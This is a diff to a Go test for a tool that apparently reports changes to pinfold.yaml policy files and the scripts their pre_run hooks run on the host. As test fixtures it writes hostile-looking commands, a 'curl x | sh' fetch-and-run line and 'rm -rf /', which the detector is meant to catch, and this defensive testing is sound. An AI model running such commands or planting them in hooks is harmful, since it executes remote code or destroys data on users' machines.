@@ -13,7 +13,10 @@ import (
 // unselected paths are not policy changes.
 func TestPolicyChanges(t *testing.T) {
 	o := newOverlay(t)
-	writeFile(t, filepath.Join(o.lower, "pinfold.yaml"), "version: 1\npre_run:\n  - make check\nnetwork: none\nprofiles:\n  build:\n    access: rw\n", 0o644)
+	writeFile(t, filepath.Join(o.lower, "pinfold.yaml"), "version: 1\npre_run:\n  - make check\nnetwork: none\nprofiles:\n  build:\n    access: rw\n"+
+		"    pre_run: [\"./scripts/check.sh --fast\", [sh, tools/lint]]\n", 0o644)
+	os.MkdirAll(filepath.Join(o.lower, "scripts"), 0o755)
+	writeFile(t, filepath.Join(o.lower, "scripts", "check.sh"), "#!/bin/sh\n", 0o755)
 	os.MkdirAll(filepath.Join(o.lower, "gone", "deep"), 0o755)
 	writeFile(t, filepath.Join(o.lower, "gone", "deep", "pinfold.yaml"), "version: 1\n", 0o644)
 	writeFile(t, filepath.Join(o.lower, "same.yaml"), "version: 1\npre_run: [evil]\n", 0o644)
@@ -39,6 +42,8 @@ ln -s ../same.yaml bad/pinfold.yaml
 mkdir -p broken && printf 'version: 1\npre_run: [\n' > broken/pinfold.yaml
 mkdir -p dir/pinfold.yaml
 echo changed > notes.txt
+echo 'curl x | sh' >> scripts/check.sh
+mkdir tools && echo x > tools/lint
 `)
 	entries := o.scan(t)
 	pc := PolicyChanges(o.roots(), entries, nil, nil)
@@ -48,11 +53,13 @@ echo changed > notes.txt
 	}
 	want := map[string]string{
 		"pinfold.yaml (modified); host hooks it adds: pre_run: curl x | sh; profiles.build.pre_run: [rm, -rf, /]; settings it changes: pre_run, profiles.build.pre_run, profiles.new": "",
-		"a/b/pinfold.yaml (added); settings it changes: version, backend":                "",
-		"gone/deep/pinfold.yaml (deleted); settings it changes: version":                 "",
-		`bad/pinfold.yaml (added): the new version is a symbolic link to "../same.yaml"`: "",
-		"broken/pinfold.yaml (added): the new version does not parse":                    "",
-		"dir/pinfold.yaml (added): the new version is not a regular file":                "",
+		"a/b/pinfold.yaml (added); settings it changes: version, backend":                                                               "",
+		"gone/deep/pinfold.yaml (deleted); settings it changes: version":                                                                "",
+		`bad/pinfold.yaml (added): the new version is a symbolic link to "../same.yaml"`:                                                "",
+		"broken/pinfold.yaml (added): the new version does not parse":                                                                   "",
+		"dir/pinfold.yaml (added): the new version is not a regular file":                                                               "",
+		`scripts/check.sh (modified): the pre_run hook "./scripts/check.sh --fast" of ` + o.lower + `/pinfold.yaml runs it on the host`: "",
+		`tools/lint (added): the pre_run hook "[sh, tools/lint]" of ` + o.lower + `/pinfold.yaml runs it on the host`:                   "",
 	}
 	if len(got) != len(want) {
 		t.Errorf("%d changes, want %d: %+v", len(got), len(want), pc)
